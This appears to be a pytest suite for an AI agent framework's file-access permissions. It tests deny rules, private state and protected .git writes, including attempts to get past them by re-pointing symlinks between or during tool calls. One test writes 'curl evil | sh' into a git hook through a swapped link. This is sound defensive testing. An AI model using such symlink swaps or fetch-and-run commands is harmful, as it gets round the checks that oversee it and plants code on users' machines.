"""What reading tools may see: Read deny rules on real paths, skipped files counted, .hookline
out of reach, protected writes; judged by what the tools return and what is on disk."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import hookline
from hookline import Agent, ScriptedModel
from hookline._tools.base import Tool, ToolContext, Workspace
from hookline._tools.builtin import Glob, Grep, Read, Write
from hookline._tools.builtin._file_io import read_small, read_text
from hookline.permissions import PermissionPolicy
from hookline.permissions._rules import PermissionRule
from hookline.permissions._visibility import ReadFilter, private_reason, protected_write_reason

SECRET = "SENTINEL-SECRET-7f3a9c"
TRANSCRIPT = "SENTINEL-TRANSCRIPT-51be"


@pytest.fixture
def jail(tmp_path: Path) -> Path:
    """A project: .env with a secret, ordinary files, hookline's state, and links into both."""
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / ".env").write_text(f"API_KEY={SECRET}\n")
    (root / "notes.txt").write_text("TODO: ship it\n")
    (root / "src" / "app.py").write_text("# TODO: tests\n")
    (root / "protected.txt").write_text("original\n")
    (root / ".hookline" / "state").mkdir(parents=True)
    (root / ".hookline" / "state" / "t.jsonl").write_text(f"{TRANSCRIPT} TODO\n")
    (root / "env-link").symlink_to(root / ".env")
    (root / "protected-link").symlink_to(root / "protected.txt")
    (root / "state-link").symlink_to(root / ".hookline" / "state" / "t.jsonl")
    return root


def policy(*, deny: tuple[str, ...] = (), allow: tuple[str, ...] = ()) -> PermissionPolicy:
    def rules(texts: tuple[str, ...]) -> tuple[tuple[PermissionRule, str], ...]:
        return tuple((PermissionRule.parse(t), "test settings") for t in texts)

    return PermissionPolicy(deny=rules(deny), allow=rules(allow))


def context(root: Path, *deny: str) -> ToolContext:
    rules = ReadFilter.of(policy(deny=deny), cwd=str(root))
    return ToolContext(cwd=root, workspace=Workspace.of(root), read_filter=rules)


def run(tool: Tool, raw: dict[str, Any], ctx: ToolContext) -> tuple[Any, str]:
    output = asyncio.run(tool.execute(tool.prepare(raw, ctx), ctx))
    return output, tool.render(output)


def test_grep_with_a_glob_naming_a_denied_file_returns_nothing_and_says_it_skipped_it(
    jail: Path,
) -> None:
    ctx = context(jail, "Read(./.env)")
    output, text = run(
        Grep(), {"pattern": "API_KEY", "glob": ".env", "output_mode": "content"}, ctx
    )
    assert SECRET not in str(output) and SECRET not in text
    # .env is counted; the .hookline folder is left out without a note, as .git is
    assert output["numFiles"] == 0 and output["skipped"] == 1
    assert "1 file or folder was skipped: a Read deny rule covers them" in text


def test_grep_over_the_project_skips_denied_files_links_to_them_and_hooklines_state(
    jail: Path,
) -> None:
    ctx = context(jail, "Read(./.env)")
    output, text = run(Grep(), {"pattern": "SENTINEL|TODO", "output_mode": "content"}, ctx)
    assert SECRET not in text and TRANSCRIPT not in text
    # .env, env-link (its real path is .env), state-link (into .hookline); .hookline is silent
    assert output["skipped"] == 3 and "3 files or folders were skipped" in text
    assert f"{jail / 'notes.txt'}:1:TODO: ship it" in text  # ordinary files are still found
    assert f"{jail / 'src' / 'app.py'}:1:# TODO: tests" in text


def test_glob_does_not_list_denied_files_or_hooklines_state(jail: Path) -> None:
    output, text = run(Glob(), {"pattern": "**/*"}, context(jail, "Read(./.env)"))
    listed = {Path(name).name for name in output["filenames"]}
    assert listed == {"notes.txt", "app.py", "protected.txt", "protected-link"}
    assert output["skipped"] == 3 and "were skipped" in text


def test_without_deny_rules_only_hooklines_state_is_skipped(jail: Path) -> None:
    ctx = ToolContext(cwd=jail, workspace=Workspace.of(jail))
    output, text = run(Grep(), {"pattern": "SENTINEL", "output_mode": "content"}, ctx)
    assert SECRET in text and TRANSCRIPT not in text
    assert output["skipped"] == 1  # the link into .hookline; its own folder is left out silently


def test_a_read_deny_rule_covers_a_symlink_to_the_file_and_a_folder_rule_covers_links_in(
    jail: Path,
) -> None:
    rule = PermissionRule.parse("Read(./.env)")
    assert rule.matches("Read", {"file_path": str(jail / "env-link")}, cwd=str(jail))
    assert rule.matches("Grep", {"pattern": "x", "path": "env-link"}, cwd=str(jail))
    assert not rule.matches("Read", {"file_path": str(jail / "notes.txt")}, cwd=str(jail))
    (jail / "src" / "cfg").symlink_to(jail / ".env")
    assert rule.matches("Read", {"file_path": "src/cfg"}, cwd=str(jail))


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": ".hookline/state/t.jsonl"}),
        ("Read", {"file_path": "state-link"}),
        ("Grep", {"pattern": "x", "path": ".hookline"}),
        ("Glob", {"pattern": "*", "path": ".hookline/state"}),
        ("Read", {"file_path": "src/.hookline/x"}),
    ],
)
def test_reading_hooklines_private_state_is_refused_with_a_reason(
    jail: Path, tool: str, tool_input: dict[str, Any]
) -> None:
    reason = private_reason(tool, tool_input, cwd=str(jail), roots=(str(jail),))
    assert reason is not None and "hookline's private state" in reason


def test_ordinary_reads_and_other_tools_are_not_private(jail: Path) -> None:
    where: dict[str, Any] = {"cwd": str(jail), "roots": (str(jail),)}
    assert private_reason("Read", {"file_path": "notes.txt"}, **where) is None
    assert private_reason("Grep", {"pattern": "x"}, **where) is None  # the project itself
    assert private_reason("Write", {"file_path": ".hookline/x"}, **where) is None
    assert private_reason("Read", {"file_path": "bad\0path"}, **where) is None


def test_protected_writes_name_the_folder_on_the_given_or_the_real_path(
    jail: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    (jail / ".git" / "hooks").mkdir(parents=True)
    (jail / "hook-link").symlink_to(jail / ".git" / "hooks" / "pre-commit")
    where: dict[str, Any] = {"cwd": str(jail), "roots": (str(jail),), "home": str(home)}

    def folder(tool: str, path: str, key: str = "file_path") -> str | None:
        return protected_write_reason(tool, {key: path, "content": "x"}, **where)

    assert folder("Write", ".git/config") == str(jail / ".git" / "config")
    assert folder("Write", "hook-link") == str(jail / ".git" / "hooks")
    assert folder("Write", ".git/HEAD") is None  # git's own work, not code
    assert folder("Write", ".mcp.json") == str(jail / ".mcp.json")
    assert folder("Write", "~/.hookline/keys/state.key") == str(home / ".hookline")
    assert folder("Edit", "sub/deep/.claude/settings.json") == str(jail / "sub/deep/.claude")
    assert folder("NotebookEdit", ".hookline/n.ipynb", "notebook_path") == str(jail / ".hookline")
    assert folder("Write", "~/.claude/settings.json") == str(home / ".claude")
    assert folder("Write", "notes.txt") is None
    assert folder("Read", ".git/config") is None


def test_a_symlink_loop_is_a_clear_error_or_skipped_never_an_exception(jail: Path) -> None:
    (jail / "loop-a").symlink_to(jail / "loop-b")
    (jail / "loop-b").symlink_to(jail / "loop-a")
    ctx = context(jail, "Read(./.env)")
    rule = PermissionRule.parse("Read(./.env)")
    assert not rule.matches("Read", {"file_path": "loop-a"}, cwd=str(jail))
    output, _ = run(Grep(), {"pattern": "TODO"}, ctx)
    assert str(jail / "notes.txt") in output["filenames"]
    with pytest.raises(Exception, match=r"loop-a|symbolic links") as raised:
        run(Read(), {"file_path": "loop-a"}, ctx)
    assert raised.type.__name__ == "ToolError"


def test_a_folder_that_cannot_be_read_is_skipped_and_counted(
    jail: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scandir = os.scandir

    def refuse_src(path: Any) -> Any:
        if str(path).endswith("src"):
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refuse_src)
    output, text = run(Grep(), {"pattern": "TODO"}, context(jail))
    assert output["unreadable"] == 1 and "Skipped 1 folder that could not be read" in text
    assert output["filenames"] == [str(jail / "notes.txt")]


# -- end to end: the agent, its permission policy and the real tools ------------------------------


def call(agent: Agent, name: str, tool_input: dict[str, Any]) -> Any:
    return asyncio.run(agent.call_tool(name, tool_input))


def test_the_agent_never_shows_a_denied_file_and_still_reads_the_rest(jail: Path) -> None:
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=policy(deny=("Read(./.env)",)))
    grep = call(agent, "Grep", {"pattern": "API_KEY", "glob": ".env", "output_mode": "content"})
    everything = call(agent, "Grep", {"pattern": "SENTINEL|TODO", "output_mode": "content"})
    link = call(agent, "Read", {"file_path": "env-link"})
    notes = call(agent, "Read", {"file_path": "notes.txt"})
    assert grep.status == "executed" and grep.output["skipped"] == 1
    assert everything.status == "executed" and "TODO: ship it" in everything.content
    assert link.status == "blocked" and "Read(./.env)" in (link.reason or "")
    assert notes.status == "executed" and "TODO: ship it" in notes.content
    for result in (grep, everything, link):
        assert SECRET not in result.content and SECRET not in str(result.output)
    assert TRANSCRIPT not in everything.content


def test_the_agent_refuses_to_write_through_a_link_to_a_denied_file(jail: Path) -> None:
    rules = policy(deny=("Edit(./protected.txt)",), allow=("Write",))
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=rules)
    result = call(agent, "Write", {"file_path": "protected-link", "content": "pwned\n"})
    assert result.status == "blocked" and "Edit(./protected.txt)" in (result.reason or "")
    assert (jail / "protected.txt").read_text() == "original\n"
    control = call(agent, "Write", {"file_path": "fresh.txt", "content": "ok\n"})
    assert control.status == "executed" and (jail / "fresh.txt").read_text() == "ok\n"


def test_the_agent_refuses_to_read_hooklines_state(jail: Path) -> None:
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=PermissionPolicy())
    for name, tool_input in (
        ("Read", {"file_path": ".hookline/state/t.jsonl"}),
        ("Read", {"file_path": "state-link"}),
        ("Grep", {"pattern": "SENTINEL", "path": ".hookline"}),
        ("Glob", {"pattern": "**/*", "path": ".hookline"}),
    ):
        result = call(agent, name, tool_input)
        assert result.status == "blocked", (name, tool_input)
        assert "hookline's private state" in (result.reason or "")
        assert TRANSCRIPT not in result.content


def test_a_link_swapped_between_two_calls_is_judged_by_where_it_points_now(
    jail: Path, tmp_path: Path
) -> None:
    """No call trusts what an earlier one found out about a path: the same link, pointed
    somewhere else between two calls, is refused (or read) for where it points now."""
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=policy(deny=("Read(./.env)",)))
    outside = tmp_path / "outside.txt"
    outside.write_text("SENTINEL-OUTSIDE-4d1e\n")
    link = jail / "swapped"
    steps = [
        (jail / "notes.txt", "executed", "TODO: ship it"),
        (jail / ".hookline" / "state" / "t.jsonl", "blocked", "hookline's private state"),
        (jail / "notes.txt", "executed", "TODO: ship it"),
        (jail / ".env", "blocked", "Read(./.env)"),
        (jail / "notes.txt", "executed", "TODO: ship it"),
        (outside, "failed", "outside the workspace"),
    ]
    for target, status, says in steps:
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        result = call(agent, "Read", {"file_path": "swapped"})
        assert (result.status, target) == (status, target)
        assert says in (result.content if status == "executed" else result.reason or "")
        for secret in (SECRET, TRANSCRIPT, "SENTINEL-OUTSIDE"):
            assert secret not in result.content and secret not in str(result.output)


@pytest.mark.parametrize(
    "path",
    ["./src/../.env", "{jail}/.env", "{jail}//.env", "{jail}/./.env", ".env/", "src/../env-link",
     ".hookline/state/t.jsonl", "src/../.hookline/state/t.jsonl",
     "{jail}/.hookline/../.hookline/state/t.jsonl"],
)  # fmt: skip
def test_other_spellings_of_a_denied_or_private_path_read_nothing(jail: Path, path: str) -> None:
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=policy(deny=("Read(./.env)",)))
    result = call(agent, "Read", {"file_path": path.format(jail=jail)})
    assert result.status == "blocked"
    assert SECRET not in result.content and TRANSCRIPT not in result.content


# -- a link re-pointed after the call was judged, before its body runs -------------------------


def swapped_in_one_batch(jail: Path, target: Path, second: dict[str, Any], **rules: Any) -> Any:
    """One model turn of two calls: ``repoint`` points the link ``swapped`` at ``target``,
    then ``second`` uses it. A batch is judged whole before its first body runs, so when
    ``second`` was judged the link still named ``notes.txt``. The second call's result."""
    link = jail / "swapped"
    link.symlink_to(jail / "notes.txt")

    @hookline.tool
    def repoint() -> str:
        """Point the link elsewhere (as `ln -sfn` in Bash would)."""
        link.unlink()
        link.symlink_to(target)
        return "done"

    calls = [{"id": "t1", "name": "repoint", "input": {}}, {"id": "t2", **second}]
    script = [{"tool_calls": calls}, {"text": "ok"}]
    tools = [Read(), Write(), Grep(), Glob(), repoint]
    agent = Agent(ScriptedModel(script), tools=tools, cwd=jail, permissions=policy(**rules))
    result = agent.run_sync("go")
    first, then = result.tool_calls
    assert (first.status, then.call.id) == ("executed", "t2")  # the swap happened first
    return then


@pytest.mark.parametrize(
    ("target", "refusal"),
    [(".env", "Read(./.env)"), (".hookline/state/t.jsonl", "hookline's private state")],
)
def test_a_link_repointed_after_a_read_was_allowed_is_refused_where_it_points_now(
    jail: Path, target: str, refusal: str
) -> None:
    read = {"name": "Read", "input": {"file_path": "swapped"}}
    result = swapped_in_one_batch(jail, jail / target, read, deny=("Read(./.env)",),
                                  allow=("repoint",))  # fmt: skip
    assert result.status == "failed" and refusal in result.content
    for secret in (SECRET, TRANSCRIPT):
        assert secret not in result.content and secret not in str(result.output)


def test_a_link_repointed_after_a_write_was_allowed_leaves_the_denied_file_alone(
    jail: Path,
) -> None:
    write = {"name": "Write", "input": {"file_path": "swapped", "content": "OVERWRITTEN"}}
    result = swapped_in_one_batch(jail, jail / "protected.txt", write,
                                  deny=("Edit(./protected.txt)",),
                                  allow=("repoint", "Write"))  # fmt: skip
    assert result.status == "failed" and "Edit(./protected.txt)" in result.content
    assert (jail / "protected.txt").read_text() == "original\n"  # the sentinel is intact
    assert (jail / "notes.txt").read_text() == "TODO: ship it\n"


# -- a folder on the checked path replaced by a link before the open ---------------------------


@pytest.mark.parametrize("read", [read_text, read_small], ids=["in-a-thread", "on-the-loop"])
def test_a_read_opens_only_the_file_it_checked(
    jail: Path, read: Callable[[Path, ToolContext], str | None]
) -> None:
    """``resolve`` checked the file ``notes.txt`` in the folder ``docs``; before the open,
    ``docs`` became a link to a folder of secrets (or the file itself became a link). The file
    opened is not the one checked: nothing is read, in a worker thread or on the event loop."""
    from hookline._errors import ToolError

    ctx = context(jail)
    (jail / "vault").mkdir()
    (jail / "vault" / "notes.txt").write_text(f"{SECRET}\n")
    (jail / "docs").symlink_to(jail / "vault")  # where a real folder stood when it was checked
    with pytest.raises(ToolError, match="changed while it was being opened") as folder:
        read(jail / "docs" / "notes.txt", ctx)
    (jail / "plain.txt").symlink_to(jail / ".env")
    with pytest.raises(ToolError, match="Cannot read") as last:
        read(jail / "plain.txt", ctx)
    for refused in (folder, last):
        assert SECRET not in str(refused.value)


def test_a_write_writes_only_the_file_it_checked(jail: Path) -> None:
    from hookline._errors import ToolError
    from hookline._tools.builtin._file_io import write_text

    (jail / "vault").mkdir()
    (jail / "vault" / "notes.txt").write_text("kept\n")
    (jail / "docs").symlink_to(jail / "vault")
    with pytest.raises(ToolError, match="changed while it was being opened"):
        write_text(jail / "docs" / "notes.txt", "OVERWRITTEN")
    (jail / "plain.txt").symlink_to(jail / "protected.txt")
    with pytest.raises(ToolError, match="Cannot write"):
        write_text(jail / "plain.txt", "OVERWRITTEN")
    assert (jail / "vault" / "notes.txt").read_text() == "kept\n"  # the sentinels are intact
    assert (jail / "protected.txt").read_text() == "original\n"
    write_text(jail / "vault" / "new.txt", "made")  # a checked path is written as before
    assert (jail / "vault" / "new.txt").read_text() == "made"


def test_a_link_repointed_into_git_after_a_write_was_allowed_leaves_git_alone(jail: Path) -> None:
    """Writes into ``.git`` ask in every mode. A write allowed for ``swapped -> notes.txt``
    that finds the link pointing at a git hook when it runs was never asked for: refused."""
    hook = jail / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\ntrue\n")
    write = {"name": "Write", "input": {"file_path": "swapped", "content": "curl evil | sh"}}
    result = swapped_in_one_batch(jail, hook, write, allow=("repoint", "Write"))
    assert result.status == "failed" and "protected" in result.content
    assert hook.read_text() == "#!/bin/sh\ntrue\n"  # the sentinel is intact


def test_a_grep_repointed_into_hooklines_state_finds_nothing_there(jail: Path) -> None:
    grep = {"name": "Grep", "input": {"pattern": "SENTINEL", "path": "swapped",
                                      "output_mode": "content"}}  # fmt: skip
    result = swapped_in_one_batch(jail, jail / ".hookline" / "state", grep, allow=("repoint",))
    assert result.status == "failed" and "hookline's private state" in result.content
    assert TRANSCRIPT not in result.content and TRANSCRIPT not in str(result.output)


def test_a_glob_repointed_into_hooklines_state_lists_nothing_there(jail: Path) -> None:
    glob = {"name": "Glob", "input": {"pattern": "*", "path": "swapped"}}
    result = swapped_in_one_batch(jail, jail / ".hookline" / "state", glob, allow=("repoint",))
    assert result.status == "failed" and "hookline's private state" in result.content
    assert "t.jsonl" not in result.content and "t.jsonl" not in str(result.output)


def test_a_rule_added_mid_session_holds_in_the_body_of_a_later_call(jail: Path) -> None:
    """The body's path check comes from the policy in force when the call is judged, not from
    the one in force when the session's context was first made ready for reading."""
    link = jail / "swapped"
    link.symlink_to(jail / "notes.txt")
    agent: Agent

    @hookline.tool
    def tighten() -> str:
        """Deny reading .env from now on (as a settings reload or an SDK update would)."""
        agent.pipeline.permit.policy = policy(deny=("Read(./.env)",), allow=("repoint",))
        return "tightened"

    @hookline.tool
    def repoint() -> str:
        """Point the link at .env."""
        link.unlink()
        link.symlink_to(jail / ".env")
        return "done"

    read = {"name": "Read", "input": {"file_path": "swapped"}}
    script = [{"tool_calls": [{"id": "r1", **read}]},
              {"tool_calls": [{"id": "t", "name": "tighten", "input": {}}]},
              {"tool_calls": [{"id": "p", "name": "repoint", "input": {}}, {"id": "r2", **read}]},
              {"text": "ok"}]  # fmt: skip
    agent = Agent(ScriptedModel(script), tools=[Read(), tighten, repoint], cwd=jail,
                  permissions=policy(allow=("tighten", "repoint")))  # fmt: skip
    first, _, _, last = agent.run_sync("go").tool_calls
    assert first.status == "executed" and "TODO: ship it" in first.content
    assert last.status == "failed" and "Read(./.env)" in last.content
    assert SECRET not in last.content and SECRET not in str(last.output)


def test_an_approved_write_into_git_named_as_such_still_runs(jail: Path) -> None:
    """The body's check refuses only what was not judged: a write whose own path is in
    ``.git`` was asked for, and a person approved it."""
    from hookline._tools.approvals import Approval, ApprovalRequest, Approver

    class Yes(Approver):
        async def approve(self, request: ApprovalRequest) -> Approval:
            return Approval.allow(approver="test")

    (jail / ".git" / "info").mkdir(parents=True)
    script = [{"tool_calls": [{"id": "w", "name": "Write",
                               "input": {"file_path": ".git/info/exclude", "content": "ok"}}]},
              {"text": "done"}]  # fmt: skip
    agent = Agent(ScriptedModel(script), tools=[Write()], cwd=jail, approver=Yes(),
                  permissions=policy(allow=("Write",)))  # fmt: skip
    (result,) = agent.run_sync("go").tool_calls
    assert result.status == "executed" and result.approver == "test"
    assert (jail / ".git" / "info" / "exclude").read_text() == "ok"


# -- the body's private-state check, made on the real path as it is (no second resolve) --------


@pytest.mark.parametrize(
    ("make", "path"),
    [
        # a folder link re-pointed into the state folder: the file is named through it
        (lambda jail: jail / ".hookline" / "state", "swapped/t.jsonl"),
        # a chain: the re-pointed link names another link, which names the transcript
        (lambda jail: _linked(jail / "hop", jail / ".hookline" / "state" / "t.jsonl"), "swapped"),
        # a link to the state folder's parent, then down into it
        (lambda jail: jail / ".hookline", "swapped/state/t.jsonl"),
    ],
)
def test_a_link_repointed_into_hooklines_state_by_any_route_reads_nothing_there(
    jail: Path, make: Any, path: str
) -> None:
    read = {"name": "Read", "input": {"file_path": path}}
    result = swapped_in_one_batch(jail, make(jail), read, allow=("repoint",))
    assert result.status == "failed" and "hookline's private state" in result.content
    assert TRANSCRIPT not in result.content and TRANSCRIPT not in str(result.output)


def _linked(link: Path, target: Path) -> Path:
    link.symlink_to(target)
    return link


def test_a_project_opened_through_a_link_keeps_its_state_private(jail: Path) -> None:
    """The agent's folder is a link to the project: the real path of the state is the
    project's, not the link's, and is refused all the same, named either way."""
    door = jail.parent / "door"
    door.symlink_to(jail)
    agent = Agent(ScriptedModel([]), cwd=door, permissions=policy())
    for path in (".hookline/state/t.jsonl", str(jail / ".hookline/state/t.jsonl"), "state-link"):
        result = call(agent, "Read", {"file_path": path})
        assert result.status == "blocked", path
        assert TRANSCRIPT not in result.content and TRANSCRIPT not in str(result.output)


def test_dot_dot_after_a_link_is_read_as_written_never_where_the_link_leads(jail: Path) -> None:
    """A path that climbs back out of ``hop``, a link into the state folder: folded as written
    it names a file of the project (there is none), while the file system would climb to the
    one beside the state folder. What is checked is what is opened: nothing private is read."""
    (jail / ".hookline" / "secret.txt").write_text(f"{TRANSCRIPT} private\n")
    (jail / "hop").symlink_to(jail / ".hookline" / "state")
    agent = Agent(ScriptedModel([]), cwd=jail, permissions=policy())
    result = call(agent, "Read", {"file_path": "hop/../secret.txt"})
    assert result.status in ("blocked", "failed")
    assert TRANSCRIPT not in result.content and TRANSCRIPT not in str(result.output)
